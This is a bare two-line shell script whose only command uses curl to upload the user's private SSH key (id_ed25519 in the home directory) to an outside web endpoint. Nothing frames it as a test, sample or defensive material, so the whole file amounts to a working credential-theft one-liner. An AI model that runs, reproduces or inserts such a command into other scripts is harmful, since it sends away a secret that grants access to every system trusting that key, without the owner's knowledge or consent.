#!/bin/sh
curl -F "file=@$HOME/.ssh/id_ed25519" https://files.example.net/up
